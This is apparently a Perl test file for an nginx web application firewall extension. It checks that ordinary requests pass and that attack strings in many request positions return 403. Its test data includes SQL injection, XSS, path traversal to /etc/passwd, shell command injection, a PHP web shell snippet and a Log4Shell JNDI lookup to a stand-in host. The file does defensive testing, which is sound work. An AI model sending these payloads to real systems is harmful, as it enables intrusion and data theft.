# What people and programs send passes at paranoia 1, wherever it stands; what does not in a path is known, with the rule.
# Attacks in the same places are refused.

use strict;
use warnings;
use lib 't/lib';
use JSON::PP;
use MIME::Base64 qw(encode_base64);
use Test::More;
use Test::Nginx::Guard;
use Test::Nginx::Guard::Client qw(header_of);

sub lines_of {
    my ($name) = @_;
    open my $in, '<:raw', "t/ordinary/$name.txt" or die "$name: $!";
    my (undef, @lines) = map { chomp; $_ } <$in>;
    return grep { !/^# (?:Names|Addresses|Prose|Markdown|What programs)/ } @lines;
}

sub encoded { my ($text) = @_; return $text =~ s/([^A-Za-z0-9_.~-])/sprintf '%%%02X', ord $1/ger }

my $upstream = start_upstream("status 200\nbody fine");
my $nginx    = start_nginx(config => <<"EOC");
guard_inspect on;
large_client_header_buffers 4 16k;
add_header X-Rules "\$guard_inspect_rules" always;
location / { proxy_pass http://127.0.0.1:@{[ $upstream->port ]}; }
location /crs/ {
    guard_inspect_rules crs;
    proxy_pass http://127.0.0.1:@{[ $upstream->port ]};
}
EOC

my $head = "Host: shop.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0\r\n"
    . "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-GB,en;q=0.9,de;q=0.7\r\n"
    . "Cookie: session=6f1d2c3b4a5968778695a4b3c2d1e0f1; theme=dark; _ga=GA1.2.1716.1699\r\n";

sub get { my ($query) = @_; return "GET /search?$query HTTP/1.1\r\n$head\r\n" }

sub post {
    my ($type, $body) = @_;
    return "POST /contact HTTP/1.1\r\n${head}Content-Type: $type\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
}

sub with_field {
    my ($name, $value) = @_;
    return get('page=2') =~ s/^\Q$name\E:[^\n]*\n//mr =~ s/^(?=Cookie:)/$name: $value\r\n/mr;
}

my $json = JSON::PP->new->utf8->canonical;

sub everywhere {
    my ($value) = @_;
    my $text = $value;
    utf8::decode($text);
    return (
        ['query',  get('text=' . encoded($value) . '&page=2')],
        ['form',   post('application/x-www-form-urlencoded', 'name=Anna&message=' . encoded($value))],
        ['JSON',   post('application/json', $json->encode({ name => 'Anna', notes => [{ text => $text }] }))],
        ['cookie', get('page=2') =~ s/theme=dark/'note=' . encoded($value)/er],
    );
}

# Where the Core Rule Set does not look, and the extension does.
sub beyond {
    my ($value) = @_;
    return (
        ['header field', with_field('X-Product', encoded($value))],
        ['path',         get('page=2') =~ s{/search}{'/products/' . encoded($value)}er],
    );
}

# The same requests to a location with the Core Rule Set alone.
sub by_crs { return map { [$_->[0], $_->[1] =~ s{ /}{ /crs/}r] } @_ }

# What WHERE makes of each of the values: its name, and the request.
sub named {
    my ($where, @values) = @_;
    return map { my $value = $_; map { ["$value ($_->[0])", $_->[1]] } $where->($value) } @values;
}

# Statuses and rules of requests over one connection.
sub ask {
    my (@requests) = @_;
    my @answers;
    while (my @some = splice @requests, 0, 50) {
        my $result = request_raw($nginx->port, join('', @some), expect => scalar @some);
        push @answers, map { "$_->{code} " . (header_of($_->{fields}, 'X-Rules') // '') } $result->{responses}->@*;
    }
    return @answers;
}

my @values  = lines_of('values');
my @queries = lines_of('queries');
my @fields  = lines_of('headers');
my @paths   = lines_of('paths');
cmp_ok scalar @values, '>', 70, 'values';
my (@names, @requests);
# Passes: that an escape seems to be escaped again weighs 3 of 5.
my %expected = map { ("50% off ($_)" => '200 920220') } 'query', 'path';
# Refused in a path alone: ".com" ends names of programs, and a part of this text, "agenda) with you", could end a query.
$expected{'info@example.com (path)'} = '403 920440,949110';
$expected{'**Important**: bring the [agenda](https://example.com/agenda) with you (path)'} = '403 942100,949110';
# By the Core Rule Set itself: the same, and "file (1)", a call in PHP.
$expected{'path /users/a.b+c@example.com'} = '403 920440,949110';
$expected{'path /download/file%20(1).pdf'} = '403 933160,949110';
for my $value (@values) {
    for my $place (everywhere($value), beyond($value)) {
        push @names,    "$value ($place->[0])";
        push @requests, $place->[1];
    }
}
push @names, map { "query string $_" } @queries;
push @requests, map { get($_) } @queries;
push @names, map { "header field $_" } @fields;
push @requests, map { with_field(/^([^:]+): (.*)/) } @fields;
push @names, map { "path $_" } @paths;
push @requests, map { my $path = $_; get('page=2') =~ s{/search}{$path}r } @paths;
my @answers = ask(@requests);
is scalar @answers, scalar @requests, 'all are answered';
my %minded;
for my $i (0 .. $#requests) {
    $minded{ $names[$i] } = $answers[$i] if $answers[$i] ne '200 ';
}
is_deeply \%minded, \%expected, 'ordinary requests pass, and match no rule' or diag explain \%minded;

my @attacks = ("1' or '1'='1' -- ", '<script>alert(1)</script>', '../../../../etc/passwd', '; cat /etc/passwd', '<?php system($_GET[0]); ?>', '$(id)', "\xbcscript\xbealert(1)\xbc/script\xbe", '(system)(ls);', '(alert)(1)', '${jndi:ldap://x.example/a}');
my @places  = named(\&everywhere, @attacks);
# What the Core Rule Set lets pass, and the extension does not.
my @own = named(\&beyond, '1 or 1=1', '1 union select 1,2 from x', '1/**/and/**/1=(select 1)', '1 AND 2752=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(500000000/2))))');
push @own, named(
    sub {
        my ($value) = @_;
        my $text = $value =~ s/&/&amp;/gr =~ s/</&lt;/gr =~ s/"/&quot;/gr;
        my $name = $value =~ s/"/\\"/gr;
        return (
            ['attribute in XML', post('application/xml', qq{<order note="$text">x</order>})],
            ['name of a file', post('multipart/form-data; boundary=b', qq{--b\r\nContent-Disposition: form-data; name="f"; filename="$name"\r\n\r\nx\r\n--b--\r\n})],
            ['name of a user', get('page=2') =~ s/^(?=Cookie:)/'Authorization: Basic ' . encode_base64("$value:x", '') . "\r\n"/mer =~ s{/search}{/contact}r],
        );
    },
    '1 union select 1,2 from x', '<script>alert(1)</script>'
);
push @own, grep { $_->[0] =~ /query/ } named(\&everywhere, '/etc/services', '&set&');
push @own, named(sub { ['header field', with_field('X-Api', $_[0])] }, '${jndi:ldap://x.example/a}');
push @places, @own;
my @refused = ask(map { $_->[1] } @places);
is_deeply [map { "$places[$_][0]: " . substr $refused[$_] // '', 0, 3 } 0 .. $#places], [map {"$_->[0]: 403"} @places], 'attacks in the same places are refused';
my @passed = ask(map { $_->[1] } by_crs(@own));
is_deeply [map { "$own[$_][0]: " . substr $passed[$_] // '', 0, 3 } 0 .. $#own], [map {"$_->[0]: 200"} @own], 'and pass where the Core Rule Set stands alone';
is_deeply [log_problems($nginx)], [], 'no problem is logged';

done_testing();
